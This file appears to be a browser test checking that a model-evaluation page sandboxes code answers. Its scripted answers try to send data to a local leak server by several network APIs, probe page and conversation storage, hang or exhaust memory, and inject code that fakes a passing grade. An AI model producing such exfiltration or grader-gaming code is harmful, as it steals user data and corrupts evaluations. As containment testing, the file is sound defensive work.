// Whatever code an answer has, it can do nothing: hostile answers through the real page and its sandbox.
import { EvaluatePage } from './evaluate-page.ts';
import { startLeakServer } from './leak-server.ts';
import { serveScriptedEngine } from './scripted-engine.ts';
import { expect, test } from './test.ts';

/** Functions of the coding suite, each with code that tells what it could do in the error that it throws. */
const attacks = (away: string): Readonly<Record<string, string>> => ({
  add: `
    const url = ${JSON.stringify(away)};
    const tries = {
      fetch: () => fetch(url),
      xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(); },
      socket: () => new WebSocket(url.replace('http', 'ws')),
      events: () => new EventSource(url),
      transport: () => new WebTransport(url.replace('http:', 'https:')),
      beacon: () => navigator.sendBeacon(url, 'x'),
      script: () => importScripts(url),
      module: () => import(url),
      eval: () => eval('1 + 1'),
      make: () => Function('return 1')(),
    };
    const told = Object.entries(tries).map(([name, run]) => {
      try { run()?.catch?.(() => {}); return name; } catch { return name + '!'; }
    });
    function add() { throw Error(told.join(' ')); }`,
  isEven: `
    const names = ['document', 'window', 'localStorage', 'parent', 'top', 'opener'];
    const told = names.filter((name) => name in self).join() || 'nothing';
    function isEven() { throw Error('found ' + told + ' at ' + location.origin); }`,
  largest: `
    const told = ['caches', 'cookieStore'].filter((name) => name in self);
    try { indexedDB.open('corral-conversations'); told.push('opened'); } catch { told.push('none'); }
    function largest() { throw Error('storage: ' + told.join()); }`,
  reversed: 'function reversed() { for (;;) {} }',
  countVowels: 'for (;;) {}',
  factorial: `
    const kept = [];
    function factorial() { for (;;) kept.push(new Uint8Array(1e8).fill(1)); }`,
  fibonacci: `
    const told = [typeof Worker, typeof SharedWorker, typeof WebAssembly, typeof SharedArrayBuffer];
    function fibonacci() { throw Error(told.join()); }`,
  // Leaves the function that it stands in, and claims to have passed.
  unique: `}); postMessage([{ type: 'value', value: true }, { passed: true }]); (function () {`,
  median: `postMessage('passed'); function median() {}`,
  wordCounts: 'function wordCounts( {',
  isPrime: 'self.close(); function isPrime() {}',
  gcd: 'function gcd(a, b) { while (b) [a, b] = [b, a % b]; return a; }',
});

// The engine's place is taken by a script of the test, which the service worker would not keep.
test.use({ serviceWorkers: 'block' });

test('contains network, page, storage, endless loops, memory and workers', async ({
  page,
  baseURL,
}) => {
  const elsewhere = await startLeakServer();
  const code = attacks(`${elsewhere.url}/leak`);
  const script = Object.entries(code).map(([name, body]) => [
    `JavaScript function ${name}(`,
    `\`\`\`js\n${body}\n// this is ${name}\n\`\`\``,
  ]);
  const engine = await serveScriptedEngine(baseURL ?? '', Object.fromEntries(script));
  const evaluate = await new EvaluatePage(page).open('suites', engine.url);
  await evaluate.choose({ Suite: 'Coding' });
  const run = await evaluate.start();
  await evaluate.finished(run);

  const answers = await evaluate.answers(run);
  const told = (name: string) => answers.find((one) => one.includes(`// this is ${name}\n`)) ?? '';
  expect(told('add')).toMatch(/xhr!.* transport! beacon! script! .*eval! make!/);
  expect(elsewhere.leaked).toEqual([]);
  expect(engine.requests.filter(({ path }) => path.includes('leak'))).toEqual([]);
  expect(told('isEven')).toContain('found nothing at null');
  expect(told('largest')).toContain('storage: none');
  for (const name of ['reversed', 'countVowels']) {
    expect(told(name), name).toContain('wrong (timed out)');
  }
  expect(told('factorial')).toContain('wrong (RangeError: out of memory)');
  expect(told('fibonacci')).toContain('undefined,undefined,undefined,undefined');
  for (const name of ['unique', 'median', 'wordCounts', 'isPrime'])
    expect(told(name)).toContain('wrong');
  // What came before it did no harm to what came after it.
  expect(told('gcd')).toContain('right');
  expect(await evaluate.scores(run)).toEqual([['Coding', '5 % 1 of 21']]);

  // The page itself still may not; in a call of its own, since the test's calls are let through.
  const evaluated = page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(Function('return 1')());
          } catch (error) {
            resolve((error as Error).name);
          }
        });
      }),
  );
  expect(await evaluated).toBe('EvalError');
  elsewhere.close();
  await engine.close();
});
